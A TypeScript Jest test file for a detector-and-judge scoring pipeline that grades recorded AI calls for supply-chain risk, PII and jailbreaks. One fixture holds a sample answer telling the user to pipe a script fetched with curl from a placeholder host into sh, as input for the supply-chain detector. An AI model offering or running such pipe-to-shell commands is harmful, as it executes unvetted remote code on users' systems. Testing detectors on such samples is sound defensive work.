import { MessageChannel } from 'node:worker_threads'
import { expect, test } from '@jest/globals'
import type { Judge } from '../judge/judge.ts'
import { readCall, parseBody } from '#detectors/call-text.ts'
import { parseRubric, type Rubric } from '../scoring/judge/rubric.ts'
import { answers, asks } from '../testing/sample-job.ts'
import type { NamedVerdict } from '#detectors/verdict.ts'
import { detectInThread, type ThreadReport } from '../threads/detect-in-thread.ts'
import { taskOf } from '../threads/detector-threads.ts'
import type { DetectCall } from './detect-call.ts'
import { leaveUnscored, runDetectors } from './run-detectors.ts'
import { runScorers } from './run-scorers.ts'

const rubric: Rubric = parseRubric(
  '---\nscorer: supply_chain\nversion: 1\nfail_at: 5\nlooks_at: [answer]\n---\nText',
)
const piped = answers('Run: curl https://get.example.org/setup.sh | sh')
const call = readCall(parseBody(JSON.stringify(asks('How?'))), parseBody(JSON.stringify(piped)))

const here: DetectCall = async (chosen, read) => {
  const found: Awaited<ReturnType<DetectCall>>[number][] = []
  await runDetectors(
    chosen,
    read,
    () => Promise.resolve(),
    (one) => found.push(one),
  )
  return found
}

const inThread: DetectCall = async (chosen, read) => {
  const { port1, port2 } = new MessageChannel()
  const found: Awaited<ReturnType<DetectCall>>[number][] = []
  const done = Promise.withResolvers<undefined>()
  port1.on('message', (report: ThreadReport) => {
    if (report === 'done') done.resolve(undefined)
    else if ('found' in report) found.push(report.found)
  })
  await detectInThread({ ...taskOf(chosen, read), port: port2 })
  await done.promise
  port1.close()
  return found
}

const never = new AbortController().signal
const tools = {
  judge: null,
  rubrics: new Map([[rubric.scorer, rubric]]),
  judgeTextLimit: 1_000,
  judgeGrouping: 'evidence',
} as const
const terms = { projectId: 'prj', judgeMode: 'never', lane: 'live', mayTryLater: false } as const
const chosen = { builtIn: ['supply_chain'] as const, custom: [] }
const trace = {
  ...{ model: 'm', prompt_tokens: null, completion_tokens: null, cost_usd: null },
  ...{ asked_together: 1, latency_ms: 1 },
}

test.each([
  ['at once', here],
  ['in a thread', inThread],
])('detectors that read a call %s hold it against the line of the rubric', async (_where, detect) => {
  const found = await runScorers(chosen, call, terms, { ...tools, detect }, never)
  expect(found).toMatchObject([{ verdict: { label: 'unscored' } }])
})

test('a call that detectors are too slow for is tried later once, before the judge is asked', async () => {
  const detect: DetectCall = (given) =>
    Promise.resolve([
      ...leaveUnscored({ ...given, builtIn: ['pii_detection'] }, 'too_slow'),
      ...leaveUnscored(given, 'detectors_undecided'),
    ])
  let asked = 0
  const judge: Judge = {
    covers: () => true,
    arrange: (rubrics) => [[...rubrics]],
    judge: () => (asked++, Promise.resolve({ kind: 'failed', reason: 'judge_unavailable', trace })),
    stop: () => undefined,
  }
  const judging = { ...terms, judgeMode: 'always' } as const
  const run = (mayTryLater: boolean) =>
    runScorers(chosen, call, { ...judging, mayTryLater }, { ...tools, detect, judge }, never)
  expect([await run(true), asked]).toEqual(['try_later', 0])
  const reasons = [{ verdict: { reason: 'too_slow' } }, { verdict: { reason: 'judge_unavailable' } }]
  expect([await run(false), asked]).toMatchObject([reasons, 1])
})

test.each([
  ['does not cover the text', 'kind_not_covered', 'detectors_undecided', 'kind_not_covered'],
  ['failed', 'judge_answer_invalid', 'judge_answer_invalid', undefined],
] as const)('a judge that %s leaves its trace', async (_name, unjudged, reason, failed) => {
  const detect: DetectCall = (given) => Promise.resolve([...leaveUnscored(given, 'detectors_undecided')])
  const judge: Judge = {
    covers: () => true,
    arrange: (rubrics) => [[...rubrics]],
    judge: () =>
      Promise.resolve({ kind: 'judged', judgements: new Map([['supply_chain', { unjudged }]]), trace }),
    stop: () => undefined,
  }
  const judging = { ...terms, judgeMode: 'always' } as const
  const [found] = (await runScorers(
    chosen,
    call,
    judging,
    { ...tools, detect, judge },
    never,
  )) as NamedVerdict[]
  expect(found?.verdict).toMatchObject({ label: 'unscored', reason, judge: { model: 'm' } })
  expect(found?.verdict.judge?.failed).toBe(failed)
})

test('a scorer that the judge says nothing about keeps its detector, and nobody is asked', async () => {
  const detect: DetectCall = (given) => Promise.resolve([...leaveUnscored(given, 'detectors_undecided')])
  const judge: Judge = {
    covers: () => false,
    arrange: () => [],
    judge: () => Promise.reject(new Error('asked')),
    stop: () => undefined,
  }
  const judging = { ...terms, judgeMode: 'always' } as const
  expect(await runScorers(chosen, call, judging, { ...tools, detect, judge }, never)).toMatchObject([
    { verdict: { method: 'detector', reason: 'detectors_undecided' } },
  ])
})

test.each([
  ['the request', { truncated: true, not_masked: 'too_slow', bytes: 9 }, answers('Fine.'), 'unscored'],
  [
    'the request, beside a finding',
    { truncated: true, not_masked: 'cut', bytes: 9 },
    answers('Card 4111 1111 1111 1111.'),
    'unsafe',
  ],
])(
  'a call that lacks %s, which could not be masked, is never safe',
  async (_name, request, answer, label) => {
    const lacking = readCall(parseBody(JSON.stringify(request)), parseBody(JSON.stringify(answer)))
    const builtIn = ['pii_detection', 'content_safety', 'jailbreak_detection'] as const
    const verdicts = await runScorers(
      { builtIn, custom: [] },
      lacking,
      terms,
      { ...tools, detect: here },
      never,
    )
    if (verdicts === 'try_later') throw new Error('it is scored now')
    const [personal, ...others] = verdicts
    expect(personal?.verdict.label).toBe(label)
    for (const { verdict } of others)
      expect([verdict.label, verdict.reason]).toEqual(['unscored', 'not_masked'])
  },
)
